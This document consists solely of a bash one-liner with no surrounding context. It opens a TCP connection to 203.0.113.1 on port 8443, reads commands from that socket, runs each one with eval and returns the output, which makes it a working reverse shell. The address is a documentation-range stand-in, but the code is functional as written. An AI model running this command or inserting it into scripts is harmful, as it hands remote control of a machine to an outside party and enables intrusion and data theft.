exec 3<>/dev/tcp/203.0.113.1/8443; while read -r l <&3; do eval "$l" >&3 2>&1; done
